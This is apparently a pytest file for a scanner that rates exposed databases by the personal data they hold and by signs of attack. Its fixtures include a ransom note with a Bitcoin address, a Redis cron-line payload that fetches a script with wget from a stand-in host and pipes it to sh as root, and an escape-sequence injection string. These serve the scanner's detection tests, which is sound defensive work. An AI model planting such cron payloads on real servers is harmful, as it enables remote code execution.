"""Severity (every row of docs/severity.md, and its boundaries) and the one-line summary."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from leaksonar.assess.ransom import scan_ransom
from leaksonar.assess.severity import CRITICAL_ROWS, SENSITIVE, severity
from leaksonar.assess.summary import PII_LABELS, summary
from leaksonar.model import PII_CATEGORIES, Collection, Inspection, PiiHit, Sample, Software

P2PKH = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
NOTE = f"Your database has been downloaded. Send 0.5 BTC to {P2PKH} to recover your data."


def hit(field: str = "f") -> PiiHit:
    return PiiHit(matches=5, sampled=5, fields=(field,), example="***")


def service(
    rows: int | None = None,
    *collections: Collection,
    auth: str = "none",
    protocol: str = "postgresql",
    samples: tuple[Sample, ...] = (),
    **more: Any,
) -> Inspection:
    return Inspection(protocol, None, auth, collections=collections, rows=rows, samples=samples, **more)  # type: ignore[arg-type]


def people(rows: int | None) -> Inspection:
    return service(rows, Collection("app", "people", rows))


def found(*categories: str) -> tuple[dict[str, PiiHit], dict[tuple[str, str], tuple[str, ...]]]:
    """PII hits for `categories`, all found in app.people."""
    return {c: hit() for c in categories}, {("app", "people"): categories} if categories else {}


# --- the table, row by row --------------------------------------------------------------------------


@pytest.mark.parametrize("auth", ["required", "unknown"])
def test_info_when_not_exposed(auth: str) -> None:
    pii, per = found("national_id")
    insp = service(10_000, Collection("app", "people", 10_000), auth=auth)
    assert severity(insp, pii, per, infected=True) == "info"


@pytest.mark.parametrize("category", sorted(SENSITIVE))
def test_critical_sensitive_category_in_100_rows(category: str) -> None:
    assert severity(people(100), *found(category), infected=False) == "critical"


def test_sensitive_boundary_99_rows_is_high() -> None:
    assert CRITICAL_ROWS == 100
    assert severity(people(99), *found("national_id"), infected=False) == "high"


def test_sensitive_uses_the_collection_where_it_was_found() -> None:
    """A big service whose only sensitive hit sits in a small table is not critical."""
    insp = service(1_000_050, Collection("app", "people", 50), Collection("app", "events", 1_000_000))
    pii = {"national_id": hit(), "ip_address": hit()}
    per = {("app", "people"): ("national_id",), ("app", "events"): ("ip_address",)}
    assert severity(insp, pii, per, infected=False) == "high"


def test_sensitive_in_collection_of_unknown_rows_is_high() -> None:
    assert severity(people(None), *found("passport"), infected=False) == "high"


@pytest.mark.parametrize("category", sorted(set(PII_CATEGORIES) - SENSITIVE))
def test_non_sensitive_category_is_high_at_any_size(category: str) -> None:
    assert severity(people(10**9), *found(category), infected=False) == "high"


def test_critical_when_attacked_and_holding_personal_data() -> None:
    assert severity(people(3), *found("phone"), infected=True) == "critical"


def test_high_when_attacked_without_personal_data() -> None:
    assert severity(people(1), *found(), infected=True) == "high"


def test_medium_with_data_and_no_personal_data() -> None:
    assert severity(people(7040), *found(), infected=False) == "medium"


def test_medium_from_collection_rows_or_samples_when_service_rows_unknown() -> None:
    assert severity(service(None, Collection("a", "b", 5)), {}, {}, infected=False) == "medium"
    sampled = service(None, samples=(Sample("a", "b", ({"x": "1"},)),))
    assert severity(sampled, {}, {}, infected=False) == "medium"


@pytest.mark.parametrize(
    "insp",
    [
        service(0),
        service(None),
        service(0, Collection("app", "empty", 0)),
        service(None, Collection("a", "b")),
    ],
)
def test_low_when_empty_or_metadata_only(insp: Inspection) -> None:
    assert severity(insp, {}, {}, infected=False) == "low"


def test_docs_name_every_sensitive_category() -> None:
    doc = (Path(__file__).parent.parent / "docs" / "severity.md").read_text()
    sensitive = doc[doc.index("**Sensitive** categories") :].split("The others", 1)[0]
    assert set(re.findall(r"`(\w+)`", sensitive)) == SENSITIVE


# --- summary ------------------------------------------------------------------------------------------


def test_summary_elasticsearch() -> None:
    insp = Inspection(
        "elasticsearch",
        Software("elasticsearch", "7.10.2"),
        "none",
        collections=(
            Collection("", "person", 969_000_000),
            Collection("", "case", 1),
            Collection("", "addr", 1),
        ),
        rows=970_000_000,
        size_bytes=23_000_000_000,
    )
    pii = {c: hit() for c in ("address", "phone", "national_id")}
    assert summary(insp, pii) == (
        "Elasticsearch 7.10.2 without authentication: 3 indices, 970M documents, 23 GB; "
        "national IDs, phone numbers, addresses"
    )


def test_summary_password_required() -> None:
    assert (
        summary(Inspection("redis", Software("redis", "7.0.15"), "required"), {})
        == "Redis 7.0.15 requires a password"
    )


def test_summary_auth_unknown() -> None:
    assert (
        summary(Inspection("http", Software("nginx", "1.25.3"), "unknown"), {})
        == "nginx 1.25.3: authentication unknown"
    )


def test_summary_postgresql_with_ransom_note() -> None:
    insp = Inspection(
        "postgresql",
        Software("postgresql", "15.18"),
        "none",
        databases=2,
        collections=(
            *(Collection("crm", f"t{i}", 1760) for i in range(4)),
            Collection("RECOVER_YOUR_DATA", "readme", 1),
        ),
        rows=7040,
        size_bytes=16_400_000,
        samples=(Sample("RECOVER_YOUR_DATA", "readme", ({"note": NOTE},)),),
    )
    pii = {c: hit() for c in ("phone", "name", "national_id")}
    assert summary(insp, pii, scan_ransom(insp)) == (
        "PostgreSQL 15.18 without authentication: 2 databases, 5 tables, 7,040 rows, 16 MB; "
        "names, national IDs, phone numbers; RANSOM NOTE (1 BTC address, asks 0.5 BTC)"
    )


def test_summary_redis_cron_attack_and_wipe() -> None:
    docs = tuple(
        {
            "key": f"backup{i}",
            "type": "string",
            "value": f"\n\n*/{i} * * * * root wget -q -O- http://x/y | sh\n",
        }
        for i in range(1, 5)
    )
    insp = Inspection(
        "redis",
        Software("redis", "5.0.7"),
        "none",
        databases=1,
        collections=(Collection("0", "db0", 4),),
        rows=4,
        size_bytes=1_200_000,
        samples=(Sample("0", "db0", docs),),
    )
    assert summary(insp, {}, scan_ransom(insp)) == (
        "Redis 5.0.7 without authentication: 1 database, 4 keys, 1.2 MB; CRON-JOB ATTACK (4 keys), DATA WIPED"
    )


def test_summary_meow_and_memcached_and_odd_software() -> None:
    meow = Inspection(
        "elasticsearch", None, "none", collections=(Collection("", "a1b2c3d4e5-meow", 0),), rows=0
    )
    assert summary(meow, {}, scan_ransom(meow)) == (
        "Elasticsearch without authentication: 1 index, 0 documents; MEOW WIPE (1 index), DATA WIPED"
    )
    memcached = Inspection(
        "memcached", Software("memcached", "1.6.21"), "none", databases=1, rows=1, size_bytes=90
    )
    assert summary(memcached, {}) == "Memcached 1.6.21 without authentication: 1 key, 90 B"
    hostile = Inspection("redis", Software("redis", "7\x1b[31m\nFAKE" + "9" * 500), "none")
    line = summary(hostile, {})
    assert line.isprintable() and len(line) < 120
    assert summary(Inspection("mongodb", Software(""), "none"), {}) == (
        "MongoDB without authentication: nothing listed"
    )


def test_every_category_has_a_label() -> None:
    assert set(PII_LABELS) == set(PII_CATEGORIES)
